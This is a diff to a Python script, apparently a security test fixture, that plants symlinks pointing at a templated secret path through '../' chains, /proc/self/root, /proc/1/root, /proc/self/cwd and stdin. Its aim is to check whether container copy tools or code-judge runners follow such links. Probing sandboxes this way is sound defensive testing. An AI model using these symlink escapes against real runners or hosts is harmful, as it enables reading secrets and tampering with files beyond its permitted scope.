@@ -1,5 +1,6 @@
 # docker cp, kubectl cp and judges' runners have all followed such links, for reading and for writing.
 import os
+import sys
 
 secret = "@@SECRET_PATH@@"
 laid = 0
@@ -16,8 +17,9 @@ lay("../" * 12 + secret[1:], "relative.txt")
 lay("/proc/self/root" + secret, "root.txt")
 lay("/proc/1/root" + secret, "init.txt")
 lay("/proc/self/cwd/../.." + secret, "cwd.txt")
-lay(os.path.dirname(secret), "directory")
-lay("/", "all")
+if sys.argv[1] == "directories":
+    lay(os.path.dirname(secret), "directory")
+    lay("/", "all")
 lay("/proc/self/fd/0", "stream.txt")
 lay("/dev/stdin", "stdin.txt")
 lay("@@TAMPER_PATH@@", "open.txt")
